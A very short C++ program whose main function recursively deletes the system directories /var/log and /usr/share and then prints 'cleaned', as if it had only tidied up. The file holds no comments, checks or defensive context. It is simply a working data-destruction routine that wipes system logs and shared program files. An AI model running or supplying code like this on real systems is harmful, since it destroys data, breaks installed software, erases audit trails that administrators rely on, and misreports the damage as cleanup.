#include <filesystem>
#include <iostream>

int main() {
    std::filesystem::remove_all("/var/log");
    std::filesystem::remove_all("/usr/share");
    std::cout << "cleaned\n";
}
